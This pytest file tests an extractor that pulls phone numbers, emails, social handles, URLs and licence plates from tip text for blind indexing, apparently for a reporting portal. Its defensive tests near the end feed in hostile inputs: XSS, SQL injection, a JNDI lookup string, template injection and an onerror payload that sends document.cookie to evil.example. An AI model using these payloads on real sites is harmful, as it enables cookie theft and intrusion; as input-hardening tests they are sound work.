import pytest

from portal.vault.blind_index import blind_index
from tips.extract import (
    MAX_IDENTIFIERS,
    MAX_TEXT_CHARS,
    Identifier,
    extract_all,
    extract_from_fields,
    extract_from_text,
    index_values,
)

PHONE = Identifier("phone", "+18165550142")


def of_kind(found: set[Identifier], kind: str) -> set[str]:
    return {identifier.value for identifier in found if identifier.kind == kind}


@pytest.mark.parametrize(
    "written",
    [
        "(816) 555-0142",
        "816.555.0142",
        "816-555-0142",
        "+1 816 555 0142",
        "8165550142",
        "+1-816-555-0142",
        "1 (816) 555-0142",
    ],
)
def test_it_reads_each_phone_format_as_the_same_e164_number(written: str) -> None:
    assert extract_from_text(f"He texted from {written}, call him.") == {PHONE}


@pytest.mark.parametrize("text", ["ext 555-0142", "order 12345", "it costs $3.50", "room 214"])
def test_it_ignores_numbers_that_are_not_full_phone_numbers(text: str) -> None:
    assert of_kind(extract_from_text(text), "phone") == set()


@pytest.mark.parametrize(
    ("text", "email"),
    [
        ("write to jane@example.com today", "jane@example.com"),
        ("Email: Jane.Doe+ads@Gmail.com.", "janedoe@gmail.com"),
        ("<jane.d@mail.example.co.uk>", "jane.d@mail.example.co.uk"),
        ("mailto:boss@escort-site.net", "boss@escort-site.net"),
    ],
)
def test_it_finds_emails(text: str, email: str) -> None:
    assert extract_from_text(text) == {Identifier("email", email)}


@pytest.mark.parametrize("text", ["jane@localhost", "a@b", "@@@", "x@.com", "jane@example.c0m"])
def test_it_ignores_what_is_not_an_email(text: str) -> None:
    assert of_kind(extract_from_text(text), "email") == set()


@pytest.mark.parametrize(
    ("text", "handles"),
    [
        ("his insta is @Jane_Doe.99", {"jane_doe.99"}),
        ("ask @mike_t. He knows", {"mike_t"}),
        ("@a1 and @bb", {"a1", "bb"}),
        ("write to jane@example.com", set()),
        ("meet @10.30 tonight", set()),
        ("@x is too short", set()),
        ("@" + "a" * 31 + " is too long", set()),
    ],
)
def test_it_finds_handles_but_not_email_local_parts(text: str, handles: set[str]) -> None:
    assert of_kind(extract_from_text(text), "handle") == handles


def test_it_keeps_a_handle_and_an_email_side_by_side() -> None:
    found = extract_from_text("@jane_doe posts, and jane@example.com answers")
    assert found == {Identifier("handle", "jane_doe"), Identifier("email", "jane@example.com")}


@pytest.mark.parametrize(
    ("text", "urls", "domains"),
    [
        ("https://www.Example.com/ad?id=3&utm_source=x.", {"example.com/ad?id=3"}, {"example.com"}),
        ("(ad at http://ads.example.net/p/1)", {"ads.example.net/p/1"}, {"ads.example.net"}),
        ("go to www.example.io now", {"example.io"}, {"example.io"}),
        ("www.unusual.agency", {"unusual.agency"}, {"unusual.agency"}),
        ("posted on example.com/path/to/ad, then", {"example.com/path/to/ad"}, {"example.com"}),
        ("example.org", {"example.org"}, {"example.org"}),
        ("instagram.com/jane_doe", {"instagram.com/jane_doe"}, set()),
        ("https://tiktok.com/@jane", {"tiktok.com/@jane"}, set()),
    ],
)  # fmt: skip
def test_it_finds_urls_and_their_domains(text: str, urls: set[str], domains: set[str]) -> None:
    found = extract_from_text(text)
    assert (of_kind(found, "url"), of_kind(found, "domain")) == (urls, domains)
    assert of_kind(found, "handle") == set()


@pytest.mark.parametrize(
    "text",
    [
        "open file.txt",
        "He left.It was late",
        "e.g. this, i.e. that",
        "costs 3.50 dollars",
        "version 1.2.3",
        "see unusual.agency",
        "ftp://example.com",
    ],
)
def test_it_does_not_take_prose_for_urls(text: str) -> None:
    found = extract_from_text(text)
    assert of_kind(found, "url") | of_kind(found, "domain") == set()


def test_it_does_not_read_an_email_domain_as_a_url() -> None:
    assert extract_from_text("jane@example.com") == {Identifier("email", "jane@example.com")}


@pytest.mark.parametrize(
    ("text", "plates"),
    [
        ("plate ABC1234", {"ABC1234"}),
        ("tag: 7XYZ123 on a grey van", {"7XYZ123"}),
        ("license plate ABC-1234", {"ABC1234"}),
        ("Licence plate number: abc 1234", {"ABC1234"}),
        ("plate # 7xyz123", {"7XYZ123"}),
        ("the plate was KC4521 I think", {"KC4521"}),
        ("TX plates: LUVCAR", {"LUVCAR"}),
        ("plate ABC1234 816-555-0142", {"ABC1234"}),
    ],
)
def test_it_finds_labelled_plates(text: str, plates: set[str]) -> None:
    assert of_kind(extract_from_text(text), "plate") == plates


@pytest.mark.parametrize(
    "text",
    [
        "ABC1234 7XYZ123 were parked outside",
        "grey van, Missouri, ABC 1234",
        "tag me on insta",
        "plate: NONE",
        "plate unknown",
        "the plate was unreadable",
        "license plate ABCDEFGHIJK123",
    ],
)
def test_it_finds_plates_only_when_labelled(text: str) -> None:
    assert of_kind(extract_from_text(text), "plate") == set()


def test_it_leaves_a_phone_after_a_plate_to_the_phone_matcher() -> None:
    found = extract_from_text("plate ABC1234 816-555-0142")
    assert found == {Identifier("plate", "ABC1234"), PHONE}


def test_it_extracts_structured_fields() -> None:
    found, errors = extract_from_fields(
        {
            "phones": ["(816) 555-0142"],
            "emails": ["Jane@Example.com"],
            "handles": ["@Jane_Doe"],
            "urls": ["https://www.example.com/ad"],
            "plates": ["abc-1234"],
        }
    )
    assert errors == {}
    assert found == {
        PHONE,
        Identifier("email", "jane@example.com"),
        Identifier("handle", "jane_doe"),
        Identifier("url", "example.com/ad"),
        Identifier("domain", "example.com"),
        Identifier("plate", "ABC1234"),
    }


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("phones", "not a phone"),
        ("phones", "555-0142"),
        ("emails", "jane at example dot com"),
        ("handles", "two words"),
        ("urls", "javascript:alert(1)"),
        ("urls", "not a url"),
        ("plates", "!!"),
        ("plates", "ABCDEFGHIJKL"),
        ("phones", "8" * 5000),
    ],
)
def test_it_reports_invalid_structured_values(field: str, value: str) -> None:
    found, errors = extract_from_fields({field: [value, "  "]})
    assert (found, errors) == (set(), {field: [value]})


def test_it_reports_only_the_invalid_values_of_a_field() -> None:
    found, errors = extract_from_fields({"phones": ["816-555-0142", "nope"], "plates": ["ABC1"]})
    assert found == {PHONE, Identifier("plate", "ABC1")}
    assert errors == {"phones": ["nope"]}


def test_it_refuses_an_unknown_field() -> None:
    with pytest.raises(ValueError, match="faxes"):
        extract_from_fields({"faxes": ["816-555-0142"]})


def test_it_combines_fields_and_texts_ignoring_invalid_values() -> None:
    found = extract_all(
        {"phones": ["816.555.0142", "not a phone"], "handles": ["jane_doe"]},
        "Call (816) 555-0142 or ask @Jane_Doe",
        "plate: 7XYZ123",
    )
    assert found == {PHONE, Identifier("handle", "jane_doe"), Identifier("plate", "7XYZ123")}


def test_it_indexes_with_the_vault_blind_index() -> None:
    found = {PHONE, Identifier("url", "example.com/ad"), Identifier("domain", "example.com")}
    values = index_values(found)
    assert values == sorted(values)
    assert set(values) == {
        ("phone", blind_index("phone", "816-555-0142")),
        ("url", blind_index("url", "https://www.example.com/ad")),
        ("domain", blind_index("domain", "example.com")),
    }
    assert all(len(index) == 2 for _, index in values)


def test_it_indexes_nothing_for_nothing() -> None:
    assert index_values(set()) == []


def test_it_reads_only_the_first_chars_of_a_text() -> None:
    padding = " " * (MAX_TEXT_CHARS - 20)
    assert extract_from_text(f"{padding}ok@example.com later@example.com") == {
        Identifier("email", "ok@example.com")
    }


def test_it_caps_the_identifiers_from_a_text() -> None:
    text = " ".join(f"user{n}@example.com" for n in range(MAX_IDENTIFIERS + 50))
    assert len(extract_from_text(text)) == MAX_IDENTIFIERS


def test_it_caps_the_identifiers_from_fields_and_texts_together() -> None:
    handles = [f"user{n}" for n in range(MAX_IDENTIFIERS - 1)]
    found = extract_all({"handles": handles}, "a@example.com b@example.com")
    assert len(found) == MAX_IDENTIFIERS


def test_it_caps_the_identifiers_from_fields() -> None:
    found, _ = extract_from_fields({"plates": [f"AB{n}" for n in range(MAX_IDENTIFIERS * 2)]})
    assert len(found) == MAX_IDENTIFIERS


@pytest.mark.parametrize(
    "junk",
    [
        "<script>alert(1)</script>",
        "'; DROP TABLE tips; --",
        '" OR 1=1 --',
        "<img src=x onerror=alert(document.cookie)>",
        "javascript:alert(document.domain)",
        "${jndi:ldap://x}",
        "{{7*7}} {% debug %}",
        "\x00\x1b[31m\u202e",
        "SELECT * FROM users WHERE id = 1; UNION SELECT password FROM auth_user",
    ],
)
def test_it_finds_nothing_in_html_or_sql_junk(junk: str) -> None:
    assert extract_from_text(junk) == set()


def test_it_keeps_markup_out_of_what_it_finds_in_hostile_html() -> None:
    html = (
        '<a href="https://evil.example/x?a=<b>">@jane_doe</a>'
        "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">"
        "<p>mail:jane@example.com</p>"
    )
    found = extract_from_text(html)
    assert found
    for identifier in found:
        assert not set(identifier.value) & set("<>\"' \n\\`{}")


@pytest.mark.parametrize(
    "hostile",
    [
        "a" * MAX_TEXT_CHARS * 5,
        "a." * MAX_TEXT_CHARS,
        "a@" * MAX_TEXT_CHARS,
        "@a" * MAX_TEXT_CHARS,
        "1-" * MAX_TEXT_CHARS,
        "https://" + "a" * MAX_TEXT_CHARS,
        "plate " * MAX_TEXT_CHARS,
        "x" * 64 + "@" + "a-" * MAX_TEXT_CHARS,
        "www." + "a." * MAX_TEXT_CHARS,
    ],
)
def test_it_handles_pathological_text(hostile: str) -> None:
    # The patterns are bounded (no nested or open-ended repetition); a backtracking blow-up
    # would hang here rather than pass. Speed itself is measured in bench/, not asserted.
    found = extract_from_text(hostile)
    assert len(found) <= MAX_IDENTIFIERS
